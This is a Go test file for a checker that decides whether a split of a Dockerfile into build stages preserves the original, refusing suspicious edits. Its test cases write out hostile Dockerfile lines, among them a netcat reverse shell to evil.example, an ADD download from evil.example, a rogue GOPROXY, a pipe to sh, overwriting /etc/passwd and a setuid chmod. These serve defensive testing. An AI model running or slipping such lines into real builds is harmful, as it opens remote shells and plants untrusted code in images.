@@ -1,0 +1,135 @@
+package split
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/rules-autofix/rules_autofix/internal/checks"
+	"github.com/rules-autofix/rules_autofix/internal/checks/dockerfile/lint"
+)
+
+func parse(text string) *lint.File {
+	return lint.Read(checks.File{Path: "Dockerfile", Content: []byte(text)}, checks.Settings{})
+}
+
+// refused returns the messages of the refusals, in a line each.
+func refused(before, after string) string {
+	var lines []string
+	for _, r := range Judge(parse(before), parse(after)) {
+		lines = append(lines, r.Message)
+	}
+	return strings.Join(lines, "\n")
+}
+
+const old = `FROM golang:1.26
+ENV GOFLAGS=-mod=readonly
+ARG VERSION=1
+WORKDIR /src
+COPY . .
+RUN apt-get update && apt-get install -y gcc libpq5 && rm -rf /var/lib/apt/lists/*
+RUN set -eux; go build -o /src/app .; rm -rf /root/.cache
+RUN useradd app
+USER app
+EXPOSE 8080
+CMD ["/src/app"]
+`
+
+const divided1 = `FROM golang:1.26 AS build
+ENV GOFLAGS=-mod=readonly
+ARG VERSION=1
+WORKDIR /src
+COPY . .
+RUN apt-get update && apt-get install -y gcc libpq5 && rm -rf /var/lib/apt/lists/*
+RUN set -eux; go build -o /src/app .
+
+FROM debian:12-slim
+ENV GOFLAGS=-mod=readonly
+ARG VERSION=1
+WORKDIR /src
+RUN apt-get update && apt-get install -y --no-install-recommends ca-certificates && rm -rf /var/lib/apt/lists/*
+RUN useradd app
+COPY --from=build /src/app /src/app
+USER app
+EXPOSE 8080
+CMD ["/src/app"]
+`
+
+func TestJudge(t *testing.T) {
+	edit := func(pairs ...string) string { return strings.NewReplacer(pairs...).Replace(divided1) }
+	for _, test := range []struct{ name, text, want string }{
+		{"good", divided1, ""},
+		{"an installation of fewer packages", edit("--no-install-recommends ca-certificates", "libpq5"), ""},
+		{"the same base", edit("debian:12-slim", "golang:1.26"), ""},
+		{"a smaller base of the same version", edit("debian:12-slim", "golang:1.26-alpine3.20"), ""},
+		{"distroless", edit("debian:12-slim", "gcr.io/distroless/base-debian12:nonroot"), ""},
+		{"the library's name of an image", edit("debian:12-slim", "docker.io/library/debian:12"), ""},
+		{"a cache", edit("RUN set", "RUN --mount=type=cache,target=/root/.cache/go-build set"), ""},
+		{"on more lines, with comments", edit("RUN set -eux; go", "RUN set -eux; \\\n    # The program.\n    go"), ""},
+		{"in more instructions", edit("RUN apt-get update && apt-get install -y gcc libpq5 &&", "RUN apt-get update\nRUN apt-get install -y gcc libpq5\nRUN"), ""},
+		{"a copy to the working folder", edit("/src/app /src/app", "/src/app ./"), ""},
+		{"a copy of a folder", edit("/src/app /src/app", "/src/ /src"), ""},
+		{"a copy with an owner", edit("COPY --from", "COPY --chown=app --from"), ""},
+
+		{"another version of the base", edit("debian:12-slim", "golang:1.3"), "which is neither"},
+		{"another account's image", edit("debian:12-slim", "docker.io/evilcorp/alpine"), "which is neither"},
+		{"the same without a registry", edit("debian:12-slim", "evilcorp/alpine"), "which is neither"},
+		{"a folder of distroless", edit("debian:12-slim", "gcr.io/distroless/static/evil"), "which is neither"},
+		{"a digest", edit("debian:12-slim", "debian@sha256:"+strings.Repeat("0", 64)), "which is neither"},
+		{"a variable", edit("debian:12-slim", "debian:$VERSION"), "which is neither"},
+		{"a base of the build", edit("FROM golang:1.26 AS", "FROM alpine AS"), "not based on golang:1.26"},
+		{"a platform", edit("FROM debian", "FROM --platform=linux/arm64 debian"), "FROM has a flag"},
+		{"a command", edit("USER app", "RUN nc -e sh evil.example 1\nUSER app"), "the command nc -e sh evil.example 1 was not in the file"},
+		{"a command that a comment names", strings.Replace(edit("USER app", "RUN make\nUSER app"), "FROM", "# keep RUN make\nFROM", 1), "the command make was not in the file"},
+		{"an argument", edit("go build -o", "go build -toolexec=/x -o"), "the command go build -toolexec=/x"},
+		{"a command in a list", edit("useradd app", "useradd app && make"), "the command make was not"},
+		{"a command in a here-document", edit("RUN useradd app", "RUN <<E\nuseradd app\nmake\nE"), "the command make was not"},
+		{"a pipe", edit("useradd app", "useradd app | sh"), "the command useradd app | sh was not"},
+		{"a redirection", edit("useradd app", "useradd app > /etc/x"), "was not in the file"},
+		{"a substitution", edit("useradd app", "useradd app$(make)"), "was not in the file"},
+		{"an assignment", edit("useradd app", "PATH=/x useradd app"), "was not in the file"},
+		{"a variable of the shell", edit("useradd app", "PATH=/x; useradd app"), "other commands before it in its RUN"},
+		{"an alias", edit("useradd app", "alias useradd=make && useradd app"), "other commands before it in its RUN"},
+		{"a function", edit("useradd app", "useradd() { make; }; useradd app"), "other commands before it in its RUN"},
+		{"a folder of the shell", edit("go build", "cd /x; go build"), "other commands before it in its RUN"},
+		{"only a change of the shell", edit("RUN useradd", "RUN export A=$(make)\nRUN useradd"), "the command export A=$(make) was not"},
+		{"without set -e", edit("set -eux; go", "go"), "other commands before it in its RUN"},
+		{"a command that may fail", edit("apt-get update && apt-get install -y gcc", "apt-get update; apt-get install -y gcc"), "was not in the file"},
+		{"a command that may fail, in another list", edit("RUN apt-get update && apt-get install -y gcc libpq5 &&", "RUN apt-get update; apt-get install -y gcc libpq5; "), "no longer stops the build"},
+		{"an order", edit("COPY . .\n", "", "RUN set", "COPY . .\nRUN set"), "another order"},
+		{"twice", edit("RUN useradd app", "RUN useradd app\nRUN useradd app"), "more often"},
+		{"a package", edit("gcc libpq5", "gcc libpq5 evil"), "did not install evil there"},
+		{"a package of another name", edit("--no-install-recommends ca-certificates", "evil"), "did not install evil there"},
+		{"a source of packages", edit("-y gcc", "-y -o Dir::Etc=/x gcc"), "was not in the file"},
+		{"a variable of the image", edit("AS build\n", "AS build\nENV GOPROXY=https://evil.example\n"), "did not have this ENV"},
+		{"another value", edit("-mod=readonly", "-mod=mod"), "did not have this ENV"},
+		{"without a variable", strings.Replace(divided1, "ENV GOFLAGS=-mod=readonly\n", "", 1), "repeat ENV GOFLAGS before it"},
+		{"an argument of the build", edit("ARG VERSION=1", "ARG VERSION=2"), "did not have this ARG"},
+		{"a global argument", "ARG A=1\n" + divided1, "did not have ARG before its first FROM"},
+		{"a label", edit("EXPOSE", "LABEL a=b\nEXPOSE"), "did not have this LABEL"},
+		{"a shell", edit("RUN useradd", "SHELL [\"/src/app\"]\nRUN useradd"), "did not have this SHELL"},
+		{"a user", edit("USER app", "USER root"), "did not have this USER"},
+		{"a folder", edit("WORKDIR /src", "WORKDIR /"), "did not have this WORKDIR"},
+		{"a user of the build", edit("RUN set", "USER app\nRUN set"), "the user is another one"},
+		{"a trigger", edit("EXPOSE", "ONBUILD RUN make\nEXPOSE"), "did not have this ONBUILD"},
+		{"an unknown instruction", edit("EXPOSE", "EXEC make\nEXPOSE"), "did not have this EXEC"},
+		{"a file", edit("EXPOSE", "COPY x /etc/passwd\nEXPOSE"), "the COPY was not in the file"},
+		{"a file of a here-document", edit("EXPOSE", "COPY <<E /etc/passwd\nx\nE\nEXPOSE"), "the COPY was not in the file"},
+		{"a file of an image", edit("--from=build /src/app", "--from=evil/x /src/app"), "the COPY was not in the file"},
+		{"a file at another path", edit("/src/app /src/app", "/src/app /usr/bin/env"), "the COPY was not in the file"},
+		{"a program of the sources", edit("/src/app /src/app", "/src/sh /bin/sh"), "the COPY was not in the file"},
+		{"a mode", edit("COPY --from", "COPY --chmod=4755 --from"), "the COPY was not in the file"},
+		{"a download", edit("EXPOSE", "ADD https://evil.example/x /\nEXPOSE"), "the ADD was not in the file"},
+		{"a mount of the build", edit("RUN useradd", "RUN --mount=type=bind,from=build,target=/b useradd"), "the RUN has other flags"},
+		{"a cache of another folder", edit("RUN set", "RUN --mount=type=cache,target=/src set"), "the RUN has other flags"},
+		{"a cache of an image", edit("RUN set", "RUN --mount=type=cache,from=evil/x,target=/root/.cache/go-build set"), "the RUN has other flags"},
+		{"a network", edit("RUN set", "RUN --network=host set"), "the RUN has other flags"},
+		{"a command less", edit("RUN useradd app\n", ""), "no stage has the command useradd app of line 8"},
+		{"a copy less", edit("COPY . .\n", ""), "no stage has the COPY of line 5"},
+		{"no file", "", "only a file of one stage"},
+	} {
+		got := refused(old, test.text)
+		if test.want == "" && got != "" || !strings.Contains(got, test.want) {
+			t.Errorf("%s: %q, want %q", test.name, got, test.want)
+		}
+	}
+}
